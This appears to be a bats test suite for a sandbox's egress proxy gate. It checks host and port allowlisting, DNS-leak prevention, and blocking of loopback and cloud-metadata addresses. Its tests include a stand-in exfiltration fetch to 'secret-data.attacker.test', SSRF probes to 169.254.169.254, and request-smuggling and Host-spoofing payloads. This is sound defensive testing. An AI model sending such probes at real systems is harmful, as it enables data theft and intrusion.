#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-3.0-or-later
# The gate on a port of localhost, as on macOS: a proxy with the policy of the other gate. To be run by ./run.

load ../lib/common
load helpers/net

setup() {
    log=$BATS_TEST_TMPDIR/log/network.jsonl
    gate=$NIXCAGE_TEST_BUILD/tests/net/portgate
    cp "$NET_DIR/cert.pem" "$NET_DIR/client.py" "$BATS_TEST_TMPDIR"
    cd "$BATS_TEST_TMPDIR" || return
}

# gated HOSTS COMMAND…: COMMAND with a gate that allows the words of HOSTS.
gated() {
    local rules=() host
    for host in $1; do rules+=(-H "$host"); done
    shift
    status=0
    env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u NO_PROXY "$gate" "${rules[@]}" -l "$log" "$@" 2>stderr >stdout || status=$?
    output=$(cat stdout)
    stderr=$(cat stderr)
    return 0
}

# fetch HOSTS OPTIONS URL…: curl by way of the gate, one line for each: the text or "refused".
fetch() {
    local hosts=$1 options=$2
    shift 2
    # shellcheck disable=SC2016
    gated "$hosts" sh -c 'options=$1; shift; for url; do
        eval "curl -fsS -m 10 --cacert cert.pem $options \"\$url\"" 2>>curl.err || echo refused; done' fetch "$options" "$@"
}

logged() {
    grep -F "\"name\":\"$1\"" "$log" | grep -F '"verdict":"denied"' | grep -qF "\"reason\":\"$2\"" || {
        cat "$log" >&2
        return 1
    }
}

@test "plain HTTP, HTTPS by CONNECT, SOCKS with names: what is allowed and nothing else" {
    curl -fs http://git.test/ | grep -q server # what is refused below would be answered
    local kind
    for kind in '-x http://127.0.0.1:$PORT' '-x http://127.0.0.1:$PORT -p' '-x socks5h://127.0.0.1:$PORT' ''; do
        fetch "api.test api.test:8080 api.test:8443" "$kind" http://api.test/ https://api.test/ http://api.test:8080/ \
            https://api.test:8443/ http://git.test/ https://git.test/ http://x.api.test/ http://10.77.0.3/ \
            http://api.test:9999/ http://127.0.0.1/ http://localhost/ 'http://[::1]/'
        assert_output "from the server
from the server
from the server
from the server
refused
refused
refused
refused
refused
refused
refused
refused"
        [[ $stderr == *"git.test port 80: not in hosts"* ]]
        [[ $stderr == *'hosts = ["api.test", "api.test:8080", "api.test:8443", '*'"git.test"'* ]]
    done
    logged git.test "not in hosts"
    logged api.test "port not in hosts"
}

@test "no query for a name that is not allowed leaves the host" {
    local before
    before=$(wc -l <"$NET_DIR/dns.log")
    fetch api.test "" http://api.test/ http://secret-data.attacker.test/
    assert_output $'from the server\nrefused'
    run tail -n +$((before + 1)) "$NET_DIR/dns.log"
    grep -qi 'api.test' <<<"$output"
    ! grep -qi attacker <<<"$output"
}

@test "an allowed name that leads to loopback, this host, the local link or metadata" {
    curl -s http://127.0.0.1/ | grep -q secret # all of these would be answered
    curl -s http://10.77.0.1/ | grep -q secret
    local names="loop loop6 mapped nat64 sixtofour self self6 zero multicast link link6 meta metamapped" name hosts= urls=()
    for name in $names; do hosts+=" $name.test"; urls+=("http://$name.test/"); done
    for name in http socks5h; do
        fetch "api.test$hosts" "-x $name://127.0.0.1:\$PORT" http://api.test/ "${urls[@]}"
        [ "$(head -n 1 <<<"$output")" = "from the server" ]
        [ "$(grep -c '^refused$' <<<"$output")" = "${#urls[@]}" ]
        [ "$(wc -l <<<"$output")" = $((1 + ${#urls[@]})) ]
    done
    logged loop.test "loopback address"
    logged self.test "address of this host"
    logged meta.test "cloud metadata address"
    logged link.test "link-local address"
}

@test "addresses: only listed literals, with their ports" {
    local kind
    for kind in http socks5 socks5h; do
        fetch "10.77.0.3:80 [fd77::3]:80" "-x $kind://127.0.0.1:\$PORT" http://10.77.0.3/ 'http://[fd77::3]/' \
            http://10.77.0.3:8080/ http://10.77.0.1/ http://169.254.169.254/
        assert_output $'from the server\nfrom the server\nrefused\nrefused\nrefused'
    done
    # By address, although its name is allowed: nobody knows that it is this name.
    fetch api.test '-x socks5://127.0.0.1:$PORT' http://api.test/
    assert_output refused
    fetch api.test '-x socks5h://127.0.0.1:$PORT' http://api.test/
    assert_output "from the server"
}

@test "through CONNECT: TLS to another name, none, no TLS on 443, another Host on 80" {
    cat >connect.py <<'EOF'
import os, socket, ssl, sys
host, port, what, name = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
conn = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), 10)
conn.sendall(b"CONNECT %s:%d HTTP/1.1\r\n\r\n" % (host.encode(), port))
head = b""
while not head.endswith(b"\r\n\r\n"):
    head += conn.recv(1)
if b" 200 " not in head:
    sys.exit("not connected: %r" % head)
try:
    if what == "tls":
        context = ssl._create_unverified_context()
        conn = context.wrap_socket(conn, server_hostname=name or None)
        print("tls")
    else:
        conn.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % name.encode())
        print("plain" if conn.recv(100).startswith(b"HTTP/1.1 200") else "ended")
except (ConnectionError, ssl.SSLError, OSError):
    print("ended")
EOF
    # shellcheck disable=SC2016
    gated "api.test api.test:8443 10.77.0.3:443" sh -c '
        for try in "443 tls api.test" "443 tls other.test" "443 tls" "8443 tls api.test" "8443 tls other.test" \
            "443 plain api.test" "80 plain api.test" "80 plain other.test" "80 tls api.test"; do
            set -- $try; python3 connect.py api.test "$1" "$2" "${3-}" || exit
        done; python3 connect.py 10.77.0.3 443 tls ""'
    assert_output $'tls\nended\nended\ntls\nended\nended\nplain\nended\nended\ntls'
    logged api.test "TLS to another host"
    logged api.test "TLS without a server name"
    logged api.test "not a TLS hello"
    logged api.test "HTTP to another host"
}

@test "a plain request goes to the host of its target, whatever its Host says, and only one a connection" {
    # shellcheck disable=SC2016
    gated "api.test" python3 -c '
import os, socket
def ask(text):
    conn = socket.create_connection(("127.0.0.1", int(os.environ["PORT"])), 10)
    conn.sendall(text.encode())
    answer = b""
    while data := conn.recv(65536):
        answer += data
    print(answer.split(b"\r\n")[0].decode(), answer.count(b"from the server"))
ask("GET http://api.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n")
ask("GET http://api.test/ HTTP/1.1\r\n\r\nGET http://other.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n")
ask("GET http://other.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n")
ask("GET / HTTP/1.1\r\nHost: api.test\r\n\r\n")
ask("CONNECT api.test:443 HTTP/1.1\r\n\r\n\x16early")
ask("CONNECT dead.test:443 HTTP/1.1\r\n\r\n")
'
    assert_output "HTTP/1.1 200 OK 1
HTTP/1.1 200 OK 1
HTTP/1.1 403 Forbidden 0
HTTP/1.1 400 Bad Request 0
HTTP/1.1 400 Bad Request 0
HTTP/1.1 403 Forbidden 0"
}

@test "git and an upload of 64 MiB; half-closed connections" {
    # shellcheck disable=SC2016
    gated "git.test w.test:7001" bash -c '
        export GIT_CONFIG_GLOBAL=/dev/null
        git clone -q http://git.test/repo.git cloned && cat cloned/file
        head -c 67108864 /dev/zero | python3 -c "
import os, socket, sys
conn = socket.create_connection((\"127.0.0.1\", int(os.environ[\"PORT\"])), 10)
conn.sendall(b\"CONNECT w.test:7001 HTTP/1.1\r\n\r\n\")
while not conn.recv(1024).endswith(b\"\r\n\r\n\"): pass
while data := sys.stdin.buffer.read(65536): conn.sendall(data)
conn.shutdown(socket.SHUT_WR)
print(conn.recv(100).decode().strip())"'
    assert_output $'from git\n67108864'
}

@test "the gate ends with the one that started it" {
    # shellcheck disable=SC2016
    gated api.test sh -c 'curl -fsS -m 10 http://api.test/; echo "$PORT"; kill -9 $PPID'
    [ "$status" -eq 137 ]
    [[ $output == "from the server"* ]]
    local port=${output##*$'\n'} i
    for ((i = 0; i < 200; i++)); do
        (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null || return 0
        sleep 0.1
    done
    return 1
}

@test "an outer proxy is used; a bad rule is an error" {
    HTTPS_PROXY=http://10.77.0.4:3128 run "$gate" -H api.test curl -fsS -m 10 --cacert cert.pem https://api.test/
    assert_output "from the server"
    grep -q "api.test:443" "$NET_DIR/proxy.log"
    run "$gate" -H "a b" true
    [ "$status" -eq 125 ]
    [[ $output == *"a b"* ]]
}
